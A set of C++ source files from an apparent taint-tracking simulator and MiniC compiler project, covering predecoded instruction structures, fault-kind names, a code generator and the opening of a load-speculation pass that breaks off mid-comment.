    uint8_t p1 = 0;          ///< predicate destination 1
    uint8_t p2 = 0;          ///< predicate destination 2
    uint8_t br = 0;          ///< branch register operand
    CmpRel rel = CmpRel::Eq; ///< relation for Cmp/CmpNat
    uint8_t size = 8;        ///< access size for Ld/St/Sxt/Zxt
    uint8_t pos = 0;         ///< Extr bit position / Shladd shift
    uint8_t len = 0;         ///< Extr bit length
    uint8_t statIdx = 0;     ///< flat (provenance, class) stat index;
                             ///< statIdx % kNumOrigClass recovers the
                             ///< OrigClass (e.g. the Ld fault context)
    bool useImm = false;     ///< source 2 is `imm`
    bool spec = false;       ///< speculative load (ld.s)
    bool fill = false;       ///< ld8.fill
    bool spill = false;      ///< st8.spill
};

/** One function compiled to a label-free stream. */
struct DecodedFunction
{
    const Function *src = nullptr;
    std::vector<DecodedInstr> code;
    uint32_t origCount = 0; ///< src->code.size(), for end-of-function pcs

    /**
     * The taint-clean fast tier (see docs/FAST-PATH.md): a second,
     * parallel stream in which every superblock of `code` has a twin
     * whose bitmap checks/updates and NaT purges are replaced by
     * Fp* summary probes. Fast-stream Br/Chk targets are retargeted
     * onto the fast stream itself (block-to-block chaining); a failed
     * probe deopts to `code` at the elided group's own index. Empty
     * when the function has nothing to elide (running its fast twin
     * would be pure dispatch overhead) or when fusion is off.
     */
    std::vector<DecodedInstr> fast;
    /**
     * Slow index -> fast index of that superblock's entry, -1 for
     * non-leaders. Sized code.size() exactly when `fast` is nonempty.
     * Every Br/Chk target and index 0 are leaders, so any slow-stream
     * control transfer can promote into the fast tier here.
     */
    std::vector<int32_t> fastEntry;
};

/** Where one fast-tier superblock lives, for per-block counters. */
struct FastBlockInfo
{
    int32_t function = 0; ///< index into DecodedProgram::functions
    int32_t slowPc = 0;   ///< dense slow-stream index of the block head
};

/** A whole predecoded program. */
struct DecodedProgram
{
    std::vector<DecodedFunction> functions;
    /** Slot id -> callee name for BrCalls that are not user functions. */
    std::vector<std::string> builtinNames;
    /**
     * Every fast-tier superblock across all functions, indexed by the
     * global block id carried in Fp* micro-ops (`callee` field). The
     * Machine sizes its per-block hit/deopt counters from this.
     */
    std::vector<FastBlockInfo> fastBlocks;
};

/**
 * Decode and link `program`. Returns false when the program is
 * malformed (a Br/Chk naming a label no Label pseudo-op defines), with
 * `error` filled in as a BadProgram fault whose detail names the
 * function and label. `fuse` additionally collapses the instrumenter's
 * taint idioms into Fused* macro micro-ops (see the file comment);
 * pass false to keep a one-to-one stream, e.g. for per-instruction
 * trace hooks.
 */
bool decodeProgram(const Program &program, DecodedProgram &out,
                   Fault &error, bool fuse = true);

/** True when any function's stream contains a fused macro micro-op. */
bool hasFusedOps(const DecodedProgram &program);

} // namespace shift

#endif // SHIFT_SIM_DECODED_HH
