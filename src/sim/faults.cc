#include "faults.hh"

namespace shift
{

const char *
faultKindName(FaultKind kind)
{
    switch (kind) {
      case FaultKind::None: return "none";
      case FaultKind::NatConsumption: return "nat-consumption";
      case FaultKind::IllegalAddress: return "illegal-address";
      case FaultKind::DivByZero: return "div-by-zero";
      case FaultKind::BadIndirect: return "bad-indirect-branch";
      case FaultKind::UnknownFunction: return "unknown-function";
      case FaultKind::StepLimit: return "step-limit";
      case FaultKind::BadProgram: return "bad-program";
    }
    return "???";
}

const char *
faultContextName(FaultContext ctx)
{
    switch (ctx) {
      case FaultContext::None: return "none";
      case FaultContext::LoadAddress: return "load-address";
      case FaultContext::StoreAddress: return "store-address";
      case FaultContext::StoreValue: return "store-value";
      case FaultContext::ControlFlow: return "control-flow";
      case FaultContext::SyscallArg: return "syscall-argument";
      case FaultContext::AppRegister: return "app-register";
    }
    return "???";
}

} // namespace shift
