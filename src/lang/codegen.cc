#include "codegen.hh"

#include <set>

#include "support/logging.hh"

namespace shift::minic
{

namespace
{

/** Predicate registers the code generator may use. */
constexpr int kCondPred = 6;

/** A value held in a (virtual or physical) register. */
struct Val
{
    int vr = 0;
    const Type *type = nullptr;
};

/** Where a local variable lives. */
struct LocalVar
{
    const Type *type = nullptr;
    bool inFrame = false;
    int vreg = 0;
    int64_t frameOff = 0;
};

/** Loop context for break/continue. */
struct LoopCtx
{
    int breakLabel;
    int contLabel;
};

/** Collect names whose address is taken anywhere in a function. */
class EscapeScanner
{
  public:
    std::set<std::string> names;

    void
    scanExpr(const Expr *e)
    {
        if (!e)
            return;
        if (e->kind == ExprKind::Unary && e->op == "&" && e->a &&
            e->a->kind == ExprKind::Ident) {
            names.insert(e->a->name);
        }
        scanExpr(e->a.get());
        scanExpr(e->b.get());
        scanExpr(e->c.get());
        for (const auto &arg : e->args)
            scanExpr(arg.get());
    }

    void
    scanStmt(const Stmt *s)
    {
        if (!s)
            return;
        scanExpr(s->value.get());
        scanExpr(s->init.get());
        scanExpr(s->step.get());
        scanStmt(s->declInit.get());
        scanStmt(s->then.get());
        scanStmt(s->otherwise.get());
        scanStmt(s->body0.get());
        for (const auto &sub : s->body)
            scanStmt(sub.get());
    }
};

/** Generates code for one translation unit. */
class Generator
{
  public:
    Generator(const TranslationUnit &unit, TypePool &pool)
        : unit_(unit), pool_(pool)
    {}

    GenOutput
    run()
    {
        declareGlobals();
        for (const FuncDecl &fn : unit_.functions)
            genFunction(fn);
        return std::move(out_);
    }

  private:
    [[noreturn]] void
    error(int line, const std::string &msg)
    {
        SHIFT_FATAL("codegen error at line %d: %s", line, msg.c_str());
    }

    // ----- program-level symbols ----------------------------------------

    void
    declareGlobals()
    {
        for (const GlobalVarDecl &g : unit_.globals) {
            if (globalTypes_.count(g.name))
                error(g.line, "duplicate global '" + g.name + "'");
            globalTypes_[g.name] = g.type;
            GlobalDef def;
            def.name = g.name;
            def.size = std::max<uint64_t>(g.type->size(), 1);
            if (g.init)
                initGlobal(def, g);
            out_.program.globals.push_back(std::move(def));
        }
        for (const FuncDecl &fn : unit_.functions) {
            if (funcDecls_.count(fn.name))
                error(fn.line, "duplicate function '" + fn.name + "'");
            funcDecls_[fn.name] = &fn;
        }
    }

    void
    initGlobal(GlobalDef &def, const GlobalVarDecl &g)
    {
        const Expr *init = g.init.get();
        if (init->kind == ExprKind::StrLit) {
            if (g.type->isPointer()) {
                def.initSymbol = internString(init->strVal);
                def.init.assign(8, 0);
            } else if (g.type->isArray()) {
                def.init.assign(init->strVal.begin(), init->strVal.end());
                def.init.push_back(0);
                if (def.init.size() > def.size)
                    error(g.line, "string too long for array");
            } else {
                error(g.line, "bad string initializer");
            }
            return;
        }
        int64_t value = constFold(init);
        uint64_t size = g.type->size();
        def.init.resize(size);
        for (uint64_t i = 0; i < size && i < 8; ++i)
            def.init[i] = static_cast<uint8_t>(value >> (8 * i));
    }

    int64_t
    constFold(const Expr *e)
    {
        switch (e->kind) {
          case ExprKind::IntLit:
            return e->intVal;
          case ExprKind::Unary:
            if (e->op == "-")
                return -constFold(e->a.get());
            if (e->op == "~")
                return ~constFold(e->a.get());
            break;
          default:
            break;
        }
        error(e->line, "global initializer must be a constant");
    }

    std::string
    internString(const std::string &value)
    {
        auto it = strings_.find(value);
        if (it != strings_.end())
            return it->second;
        std::string name = "__str_" + std::to_string(strings_.size());
        strings_[value] = name;
        GlobalDef def;
        def.name = name;
        def.size = value.size() + 1;
        def.init.assign(value.begin(), value.end());
        def.init.push_back(0);
        out_.program.globals.push_back(std::move(def));
        globalTypes_[name] = pool_.array(pool_.charType(),
                                         value.size() + 1);
        return name;
    }

    // ----- per-function state -------------------------------------------

    Function *fn_ = nullptr;
    const FuncDecl *decl_ = nullptr;
    int nextVreg_ = kFirstVreg;
    uint64_t objectBytes_ = 0;
    int epilogueLabel_ = -1;
    std::vector<std::map<std::string, LocalVar>> scopes_;
    std::vector<LoopCtx> loops_;
    std::set<std::string> escaped_;

    int newVreg() { return nextVreg_++; }
    int newLabel() { return fn_->newLabel(); }

    void emit(Instr instr) { fn_->code.push_back(std::move(instr)); }

    void
    emitLabel(int label)
    {
        emit(makeLabel(label));
    }

    Instr
    moviSym(int dst, const std::string &symbol)
    {
        Instr instr = makeMovi(dst, 0);
        instr.callee = symbol;
        return instr;
    }

    int64_t
    allocObject(uint64_t size, uint64_t align = 8)
    {
        objectBytes_ = (objectBytes_ + align - 1) & ~(align - 1);
        int64_t off = static_cast<int64_t>(objectBytes_);
        objectBytes_ += size;
        return off;
    }

    LocalVar *
    findLocal(const std::string &name)
    {
        for (auto it = scopes_.rbegin(); it != scopes_.rend(); ++it) {
            auto found = it->find(name);
            if (found != it->end())
                return &found->second;
        }
        return nullptr;
    }

    LocalVar &
    declareLocal(int line, const std::string &name, const Type *type)
    {
        auto &scope = scopes_.back();
        if (scope.count(name))
            error(line, "duplicate local '" + name + "'");
        LocalVar var;
        var.type = type;
        bool needsFrame = type->isArray() || escaped_.count(name);
        if (needsFrame) {
            var.inFrame = true;
            var.frameOff = allocObject(
                std::max<uint64_t>(type->size(), 8));
        } else {
            var.vreg = newVreg();
        }
        scope[name] = var;
        return scope[name];
    }

    // ----- function generation -------------------------------------------

    void
    genFunction(const FuncDecl &decl)
    {
        Function fn;
        fn.name = decl.name;
        fn_ = &fn;
        decl_ = &decl;
        nextVreg_ = kFirstVreg;
        objectBytes_ = 0;
        scopes_.clear();
        loops_.clear();

        EscapeScanner scanner;
        scanner.scanStmt(decl.body.get());
        escaped_ = std::move(scanner.names);

        epilogueLabel_ = newLabel();

        scopes_.emplace_back();
        if (decl.params.size() > 8)
            error(decl.line, "more than 8 parameters");
        for (size_t i = 0; i < decl.params.size(); ++i) {
            const Param &param = decl.params[i];
            LocalVar &var = declareLocal(decl.line, param.name,
                                         param.type);
            int argReg = reg::arg0 + static_cast<int>(i);
            if (var.inFrame) {
                int addr = newVreg();
                emit(makeAluImm(Opcode::Add, addr, reg::sp,
                                var.frameOff));
                emit(makeSt(addr, argReg, 8));
            } else {
                emit(makeMov(var.vreg, argReg));
            }
        }

        genStmt(decl.body.get());

        emitLabel(epilogueLabel_);
        Instr ret;
        ret.op = Opcode::BrRet;
        emit(ret);

        scopes_.pop_back();

        FuncGenInfo info;
        info.numVregs = nextVreg_ - kFirstVreg;
        info.objectBytes = objectBytes_;
        info.epilogueLabel = epilogueLabel_;
        out_.info[fn.name] = info;
        out_.program.addFunction(std::move(fn));
        fn_ = nullptr;
    }

    // ----- statements ------------------------------------------------------

    void
    genStmt(const Stmt *s)
    {
        switch (s->kind) {
          case StmtKind::Block: {
            scopes_.emplace_back();
            for (const auto &sub : s->body)
                genStmt(sub.get());
            scopes_.pop_back();
            break;
          }
          case StmtKind::VarDecl: {
            LocalVar &var = declareLocal(s->line, s->name, s->varType);
            if (s->value) {
                Val init = genExpr(s->value.get());
                if (var.inFrame) {
                    int addr = newVreg();
                    emit(makeAluImm(Opcode::Add, addr, reg::sp,
                                    var.frameOff));
                    emit(makeSt(addr, init.vr,
                                static_cast<int>(
                                    std::min<uint64_t>(
                                        var.type->size(), 8))));
                } else {
                    emit(makeMov(var.vreg, init.vr));
                }
            }
            break;
          }
          case StmtKind::If: {
            int thenL = newLabel();
            int elseL = newLabel();
            int endL = s->otherwise ? newLabel() : elseL;
            genCond(s->value.get(), thenL, elseL);
            emitLabel(thenL);
            genStmt(s->then.get());
            if (s->otherwise) {
                emit(makeBr(endL));
                emitLabel(elseL);
                genStmt(s->otherwise.get());
            }
            emitLabel(endL);
            break;
          }
          case StmtKind::While: {
            int headL = newLabel();
            int bodyL = newLabel();
            int endL = newLabel();
            emitLabel(headL);
            genCond(s->value.get(), bodyL, endL);
            emitLabel(bodyL);
            loops_.push_back({endL, headL});
            genStmt(s->body0.get());
            loops_.pop_back();
            emit(makeBr(headL));
            emitLabel(endL);
            break;
          }
          case StmtKind::For: {
            scopes_.emplace_back();
            if (s->declInit)
                genStmt(s->declInit.get());
            else if (s->init)
                genExpr(s->init.get());
            int headL = newLabel();
            int bodyL = newLabel();
            int stepL = newLabel();
            int endL = newLabel();
            emitLabel(headL);
            if (s->value)
                genCond(s->value.get(), bodyL, endL);
            emitLabel(bodyL);
            loops_.push_back({endL, stepL});
            genStmt(s->body0.get());
            loops_.pop_back();
            emitLabel(stepL);
            if (s->step)
                genExpr(s->step.get());
            emit(makeBr(headL));
            emitLabel(endL);
            scopes_.pop_back();
            break;
          }
          case StmtKind::Return: {
            if (s->value) {
                Val v = genExpr(s->value.get());
                emit(makeMov(reg::rv, v.vr));
            }
            emit(makeBr(epilogueLabel_));
            break;
          }
          case StmtKind::Break: {
            if (loops_.empty())
                error(s->line, "break outside a loop");
            emit(makeBr(loops_.back().breakLabel));
            break;
          }
          case StmtKind::Continue: {
            if (loops_.empty())
                error(s->line, "continue outside a loop");
            emit(makeBr(loops_.back().contLabel));
            break;
          }
          case StmtKind::ExprStmt:
            genExpr(s->value.get());
            break;
        }
    }

    // ----- conditions -------------------------------------------------------

    static CmpRel
    relForOp(const std::string &op, bool isUnsigned)
    {
        if (op == "==") return CmpRel::Eq;
        if (op == "!=") return CmpRel::Ne;
        if (op == "<") return isUnsigned ? CmpRel::LtU : CmpRel::Lt;
        if (op == "<=") return isUnsigned ? CmpRel::LeU : CmpRel::Le;
        if (op == ">") return isUnsigned ? CmpRel::GtU : CmpRel::Gt;
        if (op == ">=") return isUnsigned ? CmpRel::GeU : CmpRel::Ge;
        SHIFT_PANIC("not a relational op: %s", op.c_str());
    }

    static bool
    isRelOp(const std::string &op)
    {
        return op == "==" || op == "!=" || op == "<" || op == "<=" ||
               op == ">" || op == ">=";
    }

    /** Generate a conditional branch to trueL or falseL. */
    void
    genCond(const Expr *e, int trueL, int falseL)
    {
        if (e->kind == ExprKind::Unary && e->op == "!") {
            genCond(e->a.get(), falseL, trueL);
            return;
        }
        if (e->kind == ExprKind::Binary && e->op == "&&") {
            int midL = newLabel();
            genCond(e->a.get(), midL, falseL);
            emitLabel(midL);
            genCond(e->b.get(), trueL, falseL);
            return;
        }
        if (e->kind == ExprKind::Binary && e->op == "||") {
            int midL = newLabel();
            genCond(e->a.get(), trueL, midL);
            emitLabel(midL);
            genCond(e->b.get(), trueL, falseL);
            return;
        }
        if (e->kind == ExprKind::Binary && isRelOp(e->op)) {
            Val a = genExpr(e->a.get());
            Val b = genExpr(e->b.get());
            bool uns = bothUnsigned(a.type, b.type);
            emit(makeCmp(relForOp(e->op, uns), kCondPred, 0, a.vr, b.vr));
            emit(makeBrCond(kCondPred, trueL));
            emit(makeBr(falseL));
            return;
        }
        Val v = genExpr(e);
        emit(makeCmpImm(CmpRel::Ne, kCondPred, 0, v.vr, 0));
        emit(makeBrCond(kCondPred, trueL));
        emit(makeBr(falseL));
    }

    static bool
    bothUnsigned(const Type *a, const Type *b)
    {
        // Pointers compare unsigned; char is unsigned in MiniC.
        auto uns = [](const Type *t) {
            return t->isPointer() || t->kind == TypeKind::Char;
        };
        return uns(a) && uns(b);
    }

    // ----- addresses / lvalues ---------------------------------------------

    /** Compute the address of an lvalue; returns (addrVreg, objType). */
    Val
    genAddr(const Expr *e)
    {
        switch (e->kind) {
          case ExprKind::Ident: {
            if (LocalVar *var = findLocal(e->name)) {
                if (!var->inFrame)
                    error(e->line, "cannot take the address of "
                                   "register variable '" + e->name + "'");
                int addr = newVreg();
                emit(makeAluImm(Opcode::Add, addr, reg::sp,
                                var->frameOff));
                return {addr, var->type};
            }
            auto git = globalTypes_.find(e->name);
            if (git != globalTypes_.end()) {
                int addr = newVreg();
                emit(moviSym(addr, e->name));
                return {addr, git->second};
            }
            error(e->line, "unknown variable '" + e->name + "'");
          }
          case ExprKind::Unary:
            if (e->op == "*") {
                Val ptr = genExpr(e->a.get());
                const Type *obj = ptr.type->isPointer()
                                      ? ptr.type->elem
                                      : pool_.charType();
                return {ptr.vr, obj};
            }
            error(e->line, "expression is not an lvalue");
          case ExprKind::Index: {
            Val base = genExpr(e->a.get());
            const Type *elem =
                base.type->isPointer() ? base.type->elem
                                       : pool_.charType();
            Val index = genExpr(e->b.get());
            int addr = scaledAdd(base.vr, index.vr, elem->size());
            return {addr, elem};
          }
          default:
            error(e->line, "expression is not an lvalue");
        }
    }

    /** addr = base + index * scale. */
    int
    scaledAdd(int base, int index, uint64_t scale)
    {
        int addr = newVreg();
        if (scale == 1) {
            emit(makeAlu(Opcode::Add, addr, base, index));
        } else if (scale == 2 || scale == 4 || scale == 8) {
            int shift = scale == 2 ? 1 : scale == 4 ? 2 : 3;
            emit(makeShladd(addr, index, shift, base));
        } else {
            int scaled = newVreg();
            emit(makeAluImm(Opcode::Mul, scaled, index,
                            static_cast<int64_t>(scale)));
            emit(makeAlu(Opcode::Add, addr, base, scaled));
        }
        return addr;
    }

    /** Load a value of type t from the address in addrVreg. */
    Val
    loadFrom(int addrVreg, const Type *t)
    {
        if (t->isArray()) {
            // Arrays decay: the address is the value.
            return {addrVreg, pool_.ptr(t->elem)};
        }
        int v = newVreg();
        unsigned size = static_cast<unsigned>(t->size());
        emit(makeLd(v, addrVreg, static_cast<int>(size)));
        if (t->kind == TypeKind::Int) {
            int sx = newVreg();
            Instr instr = makeMov(sx, v);
            instr.op = Opcode::Sxt;
            instr.size = 4;
            emit(instr);
            return {sx, t};
        }
        return {v, t};
    }

    /** Store val into the address in addrVreg as type t. */
    void
    storeTo(int addrVreg, int valVreg, const Type *t)
    {
        unsigned size = static_cast<unsigned>(
            std::min<uint64_t>(t->size(), 8));
        emit(makeSt(addrVreg, valVreg, static_cast<int>(size)));
    }

    // ----- expressions -------------------------------------------------------

    Val
    genExpr(const Expr *e)
    {
        switch (e->kind) {
          case ExprKind::IntLit: {
            int v = newVreg();
            emit(makeMovi(v, e->intVal));
            return {v, e->intVal > INT32_MAX || e->intVal < INT32_MIN
                           ? pool_.longType()
                           : pool_.intType()};
          }
          case ExprKind::StrLit: {
            int v = newVreg();
            emit(moviSym(v, internString(e->strVal)));
            return {v, pool_.ptr(pool_.charType())};
          }
          case ExprKind::Ident:
            return genIdent(e);
          case ExprKind::Unary:
            return genUnary(e);
          case ExprKind::Postfix:
            return genIncDec(e, /*isPostfix=*/true);
          case ExprKind::Binary:
            return genBinary(e);
          case ExprKind::Assign:
            return genAssign(e);
          case ExprKind::Cond:
            return genCondValue(e);
          case ExprKind::Call:
            return genCall(e);
          case ExprKind::Index: {
            Val addr = genAddr(e);
            return loadFrom(addr.vr, addr.type);
          }
          case ExprKind::Cast: {
            Val v = genExpr(e->a.get());
            const Type *to = e->castType;
            if (to->kind == TypeKind::Char) {
                int t = newVreg();
                Instr instr = makeMov(t, v.vr);
                instr.op = Opcode::Zxt;
                instr.size = 1;
                emit(instr);
                return {t, to};
            }
            if (to->kind == TypeKind::Int) {
                int t = newVreg();
                Instr instr = makeMov(t, v.vr);
                instr.op = Opcode::Sxt;
                instr.size = 4;
                emit(instr);
                return {t, to};
            }
            return {v.vr, to};
          }
        }
        error(e->line, "unhandled expression");
    }

    Val
    genIdent(const Expr *e)
    {
        if (LocalVar *var = findLocal(e->name)) {
            if (!var->inFrame)
                return {var->vreg, var->type};
            int addr = newVreg();
            emit(makeAluImm(Opcode::Add, addr, reg::sp, var->frameOff));
            return loadFrom(addr, var->type);
        }
        auto git = globalTypes_.find(e->name);
        if (git != globalTypes_.end()) {
            int addr = newVreg();
            emit(moviSym(addr, e->name));
            return loadFrom(addr, git->second);
        }
        if (funcDecls_.count(e->name)) {
            int v = newVreg();
            emit(moviSym(v, e->name));
            return {v, pool_.longType()};
        }
        error(e->line, "unknown identifier '" + e->name + "'");
    }

    Val
    genUnary(const Expr *e)
    {
        if (e->op == "*") {
            Val addr = genAddr(e);
            return loadFrom(addr.vr, addr.type);
        }
        if (e->op == "&") {
            if (e->a->kind == ExprKind::Ident &&
                funcDecls_.count(e->a->name) &&
                !findLocal(e->a->name) &&
                !globalTypes_.count(e->a->name)) {
                int v = newVreg();
                emit(moviSym(v, e->a->name));
                return {v, pool_.longType()};
            }
            Val addr = genAddr(e->a.get());
            return {addr.vr, pool_.ptr(addr.type->isArray()
                                           ? addr.type->elem
                                           : addr.type)};
        }
        if (e->op == "++" || e->op == "--")
            return genIncDec(e, /*isPostfix=*/false);

        Val a = genExpr(e->a.get());
        int v = newVreg();
        if (e->op == "-") {
            emit(makeAlu(Opcode::Sub, v, reg::zero, a.vr));
            return {v, a.type};
        }
        if (e->op == "~") {
            emit(makeAluImm(Opcode::Xor, v, a.vr, -1));
            return {v, a.type};
        }
        if (e->op == "!") {
            emit(makeCmpImm(CmpRel::Eq, kCondPred, 0, a.vr, 0));
            emit(makeMovi(v, 0));
            Instr one = makeMovi(v, 1);
            one.qp = kCondPred;
            emit(one);
            return {v, pool_.intType()};
        }
        error(e->line, "unhandled unary operator '" + e->op + "'");
    }

    /** Pre/post increment/decrement. */
    Val
    genIncDec(const Expr *e, bool isPostfix)
    {
        int64_t delta = e->op == "++" ? 1 : -1;
        const Expr *target = e->a.get();

        // Register-resident scalar: operate in place.
        if (target->kind == ExprKind::Ident) {
            if (LocalVar *var = findLocal(target->name);
                var && !var->inFrame) {
                int64_t step = stepFor(var->type, delta);
                if (isPostfix) {
                    int old = newVreg();
                    emit(makeMov(old, var->vreg));
                    emit(makeAluImm(Opcode::Add, var->vreg, var->vreg,
                                    step));
                    return {old, var->type};
                }
                emit(makeAluImm(Opcode::Add, var->vreg, var->vreg,
                                step));
                return {var->vreg, var->type};
            }
        }

        Val addr = genAddr(target);
        Val old = loadFrom(addr.vr, addr.type);
        int64_t step = stepFor(addr.type, delta);
        int updated = newVreg();
        emit(makeAluImm(Opcode::Add, updated, old.vr, step));
        storeTo(addr.vr, updated, addr.type);
        return isPostfix ? old : Val{updated, addr.type};
    }

    static int64_t
    stepFor(const Type *t, int64_t delta)
    {
        if (t->isPointer())
            return delta * static_cast<int64_t>(t->elem->size());
        return delta;
    }

    Val
    genBinary(const Expr *e)
    {
        const std::string &op = e->op;
        if (op == "&&" || op == "||")
            return genLogicalValue(e);
        if (isRelOp(op)) {
            Val a = genExpr(e->a.get());
            Val b = genExpr(e->b.get());
            bool uns = bothUnsigned(a.type, b.type);
            int v = newVreg();
            emit(makeCmp(relForOp(op, uns), kCondPred, 0, a.vr, b.vr));
            emit(makeMovi(v, 0));
            Instr one = makeMovi(v, 1);
            one.qp = kCondPred;
            emit(one);
            return {v, pool_.intType()};
        }

        Val a = genExpr(e->a.get());
        Val b = genExpr(e->b.get());
        return genArith(e->line, op, a, b);
    }

    Val
    genArith(int line, const std::string &op, Val a, Val b)
    {
        int v = newVreg();

        // Pointer arithmetic.
        if (op == "+" || op == "-") {
            if (a.type->isPointer() && b.type->isInteger()) {
                uint64_t scale = a.type->elem->size();
                int rhs = b.vr;
                if (op == "-") {
                    int neg = newVreg();
                    emit(makeAlu(Opcode::Sub, neg, reg::zero, b.vr));
                    rhs = neg;
                }
                int addr = scaledAdd(a.vr, rhs, scale);
                return {addr, a.type};
            }
            if (op == "+" && b.type->isPointer() && a.type->isInteger())
                return genArith(line, op, b, a);
            if (op == "-" && a.type->isPointer() && b.type->isPointer()) {
                int diff = newVreg();
                emit(makeAlu(Opcode::Sub, diff, a.vr, b.vr));
                uint64_t esize = a.type->elem->size();
                if (esize > 1) {
                    int scaled = newVreg();
                    emit(makeAluImm(Opcode::Div, scaled, diff,
                                    static_cast<int64_t>(esize)));
                    return {scaled, pool_.longType()};
                }
                return {diff, pool_.longType()};
            }
        }

        const Type *rt = resultType(a.type, b.type);
        bool uns = rt->kind == TypeKind::Char;
        Opcode opcode;
        if (op == "+") opcode = Opcode::Add;
        else if (op == "-") opcode = Opcode::Sub;
        else if (op == "*") opcode = Opcode::Mul;
        else if (op == "/") opcode = uns ? Opcode::DivU : Opcode::Div;
        else if (op == "%") opcode = uns ? Opcode::ModU : Opcode::Mod;
        else if (op == "&") opcode = Opcode::And;
        else if (op == "|") opcode = Opcode::Or;
        else if (op == "^") opcode = Opcode::Xor;
        else if (op == "<<") opcode = Opcode::Shl;
        else if (op == ">>") opcode = uns ? Opcode::Shr : Opcode::Sar;
        else error(line, "unhandled binary operator '" + op + "'");

        emit(makeAlu(opcode, v, a.vr, b.vr));
        return {v, rt};
    }

    const Type *
    resultType(const Type *a, const Type *b)
    {
        if (a->isPointer())
            return a;
        if (b->isPointer())
            return b;
        if (a->kind == TypeKind::Long || b->kind == TypeKind::Long)
            return pool_.longType();
        if (a->kind == TypeKind::Int || b->kind == TypeKind::Int)
            return pool_.intType();
        return pool_.charType();
    }

    Val
    genLogicalValue(const Expr *e)
    {
        int trueL = newLabel();
        int falseL = newLabel();
        int endL = newLabel();
        int v = newVreg();
        genCond(e, trueL, falseL);
        emitLabel(trueL);
        emit(makeMovi(v, 1));
        emit(makeBr(endL));
        emitLabel(falseL);
        emit(makeMovi(v, 0));
        emitLabel(endL);
        return {v, pool_.intType()};
    }

    Val
    genCondValue(const Expr *e)
    {
        int trueL = newLabel();
        int falseL = newLabel();
        int endL = newLabel();
        int v = newVreg();
        genCond(e->a.get(), trueL, falseL);
        emitLabel(trueL);
        Val b = genExpr(e->b.get());
        emit(makeMov(v, b.vr));
        emit(makeBr(endL));
        emitLabel(falseL);
        Val c = genExpr(e->c.get());
        emit(makeMov(v, c.vr));
        emitLabel(endL);
        return {v, b.type};
    }

    Val
    genAssign(const Expr *e)
    {
        const Expr *lhs = e->a.get();
        const std::string &op = e->op;

        // Simple and compound assignment to a register-resident scalar.
        if (lhs->kind == ExprKind::Ident) {
            if (LocalVar *var = findLocal(lhs->name);
                var && !var->inFrame) {
                if (op == "=") {
                    Val rhs = genExpr(e->b.get());
                    emit(makeMov(var->vreg, rhs.vr));
                    return {var->vreg, var->type};
                }
                Val cur{var->vreg, var->type};
                Val rhs = genExpr(e->b.get());
                Val result = genArith(e->line,
                                      op.substr(0, op.size() - 1), cur,
                                      rhs);
                emit(makeMov(var->vreg, result.vr));
                return {var->vreg, var->type};
            }
        }

        Val addr = genAddr(lhs);
        if (op == "=") {
            Val rhs = genExpr(e->b.get());
            storeTo(addr.vr, rhs.vr, addr.type);
            return {rhs.vr, addr.type};
        }
        Val cur = loadFrom(addr.vr, addr.type);
        Val rhs = genExpr(e->b.get());
        Val result = genArith(e->line, op.substr(0, op.size() - 1), cur,
                              rhs);
        storeTo(addr.vr, result.vr, addr.type);
        return {result.vr, addr.type};
    }

    Val
    genCall(const Expr *e)
    {
        if (e->args.size() > 8)
            error(e->line, "more than 8 call arguments");

        std::vector<Val> args;
        args.reserve(e->args.size());
        for (const auto &arg : e->args)
            args.push_back(genExpr(arg.get()));

        // Callee resolution: a local/global variable of that name is an
        // indirect call through a function pointer; otherwise a direct
        // call (user function or runtime built-in).
        bool indirect = false;
        Val target{};
        if (LocalVar *var = findLocal(e->name)) {
            indirect = true;
            if (var->inFrame) {
                int addr = newVreg();
                emit(makeAluImm(Opcode::Add, addr, reg::sp,
                                var->frameOff));
                target = loadFrom(addr, var->type);
            } else {
                target = {var->vreg, var->type};
            }
        } else if (globalTypes_.count(e->name) &&
                   !funcDecls_.count(e->name)) {
            indirect = true;
            int addr = newVreg();
            emit(moviSym(addr, e->name));
            target = loadFrom(addr, globalTypes_[e->name]);
        }

        for (size_t i = 0; i < args.size(); ++i) {
            emit(makeMov(reg::arg0 + static_cast<int>(i), args[i].vr));
        }

        const Type *retType = pool_.longType();
        if (indirect) {
            Instr toBr;
            toBr.op = Opcode::MovToBr;
            toBr.br = 6;
            toBr.r2 = static_cast<uint16_t>(target.vr);
            emit(toBr);
            Instr call;
            call.op = Opcode::BrCalli;
            call.br = 6;
            emit(call);
        } else {
            auto it = funcDecls_.find(e->name);
            if (it != funcDecls_.end())
                retType = it->second->retType;
            emit(makeCall(e->name));
        }

        int v = newVreg();
        emit(makeMov(v, reg::rv));
        return {v, retType->isVoid() ? pool_.longType() : retType};
    }

    const TranslationUnit &unit_;
    TypePool &pool_;
    GenOutput out_;
    std::map<std::string, const Type *> globalTypes_;
    std::map<std::string, const FuncDecl *> funcDecls_;
    std::map<std::string, std::string> strings_;
};

} // namespace

GenOutput
generate(const TranslationUnit &unit, TypePool &pool)
{
    Generator gen(unit, pool);
    return gen.run();
}

} // namespace shift::minic
