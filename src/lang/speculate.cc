#include "speculate.hh"

#include <map>
#include <set>

#include "lang/liveness.hh"
#include "support/logging.hh"

namespace shift::minic
{

namespace
{

/** Pure ALU computation that may run speculatively (never faults). */
bool
isSpeculableAlu(const Instr &instr)
{
    if (instr.qp != 0)
        return false;
    switch (instr.op) {
      case Opcode::Div:
      case Opcode::Mod:
      case Opcode::DivU:
      case Opcode::ModU:
        return false; // may fault on zero
      default:
        return isAlu(instr);
    }
}

class FunctionSpeculator
{
  public:
    FunctionSpeculator(Function &fn, const SpeculateOptions &options,
                       SpeculateStats &stats)
        : fn_(fn), opt_(options), stats_(stats)
    {}

    void
    run()
    {
        // Transform one load per iteration; each transform consumes
        // its candidate pattern, so this terminates.
        while (transformOne()) {
        }
    }

  private:
    Function &fn_;
    const SpeculateOptions &opt_;
    SpeculateStats &stats_;
    std::map<int64_t, int> labelRefs_;

    void
    countLabelRefs()
    {
        labelRefs_.clear();
        for (const Instr &instr : fn_.code) {
            if (instr.op == Opcode::Br || instr.op == Opcode::Chk)
                ++labelRefs_[instr.imm];
        }
    }

    bool
    liveInAtLabel(const Cfg &cfg, const Liveness &live, int64_t label,
                  int r)
    {
        for (size_t i = 0; i < fn_.code.size(); ++i) {
            const Instr &instr = fn_.code[i];
            if (instr.op == Opcode::Label && instr.imm == label)
                return liveAt(live, cfg, i, r);
        }
        return true; // unknown label: assume live (no hoist)
    }

    /**
     * The speculation pattern (figure 2): a block entered through
     *
     *     (p) br Lthis ; br Lother ; Lthis:
     *
     * whose body starts with a pure address chain feeding a load whose
     * result is consumed immediately (a load-use stall). Hoist the
     * chain plus the load — as ld.s — above the conditional branch;
     * leave a chk.s behind; append recovery code that re-executes the
